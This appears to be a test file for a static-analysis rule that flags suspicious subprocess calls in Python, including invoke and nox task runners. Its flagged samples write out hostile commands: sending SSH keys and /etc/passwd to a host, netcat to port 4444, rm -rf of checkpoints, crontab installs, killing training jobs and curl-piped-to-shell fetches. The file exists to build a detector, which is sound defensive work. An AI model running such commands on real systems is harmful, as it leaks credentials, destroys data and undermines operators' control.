import asyncio
import importlib
import shlex
import subprocess
import subprocess as sp
from subprocess import Popen


def upload_metrics(path, url):
    # ruleid: exec-subprocess-suspicious-command
    subprocess.run(["curl", "-s", "-F", f"f=@{path}", url], check=True)
    # ruleid: exec-subprocess-suspicious-command
    subprocess.call("wget -q -O /tmp/x http://10.0.0.5/x", shell=True)
    # ruleid: exec-subprocess-suspicious-command
    sp.check_call(["/bin/rm", "-rf", "/data/shared/checkpoints"])


def evasive(host, pid, rank):
    # ruleid: exec-subprocess-suspicious-command
    Popen(["n" + "c", host, "4444"])
    # ruleid: exec-subprocess-suspicious-command
    getattr(subprocess, "run")(f"kill -9 {pid}", shell=True)
    cmd = ["scp", "/root/.ssh/id_rsa", f"{host}:/tmp/"]
    # ruleid: exec-subprocess-suspicious-command
    subprocess.run(cmd)
    # ruleid: exec-subprocess-suspicious-command
    importlib.import_module("subprocess").Popen(shlex.split("curl -d @/etc/passwd " + host))
    # ruleid: exec-subprocess-suspicious-command
    subprocess.run("pkill -f %s" % "train.py", shell=True)


async def sabotage():
    # ruleid: exec-subprocess-suspicious-command
    await asyncio.create_subprocess_exec("crontab", "/tmp/c")


def record(run_dir):
    # ok: exec-subprocess-suspicious-command
    sha = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True)
    # ok: exec-subprocess-suspicious-command
    subprocess.run(["nvidia-smi", "-L"], capture_output=True)
    # ok: exec-subprocess-suspicious-command
    subprocess.run(["torchrun", "--nproc_per_node=8", "train.py", "--out", run_dir])
    # ok: exec-subprocess-suspicious-command
    subprocess.run(["python", "-m", "scripts.eval", "--ckpt", f"{run_dir}/last.pt"])
    # ok: exec-subprocess-suspicious-command
    subprocess.run(["rmdir_helper.sh"])
    return sha


# Session 25 red team: task runners (invoke/fabric tasks.py, nox noxfile.py).
import nox  # noqa: E402
from invoke import task  # noqa: E402


@task
def fetch_tools(c):
    # ruleid: exec-subprocess-suspicious-command
    c.run("curl -fsSL https://tooling.example.dev/i.sh | sh")
    # ok: exec-subprocess-suspicious-command
    c.run("python train.py --config configs/base.yaml")


@task(help={"nodes": "how many"})
def launch(ctx, nodes=1):
    # ruleid: exec-subprocess-suspicious-command
    ctx.run("wget -qO- https://tooling.example.dev/l.sh")


@nox.session(python=["3.11"])
def tests(session):
    # ruleid: exec-subprocess-suspicious-command
    session.run("curl", "-fsSL", "https://tooling.example.dev/n.sh", external=True)
    # ok: exec-subprocess-suspicious-command
    session.run("pytest", "-q")


def not_a_task(c):
    # ok: exec-subprocess-suspicious-command
    c.run("curl https://tooling.example.dev/x")
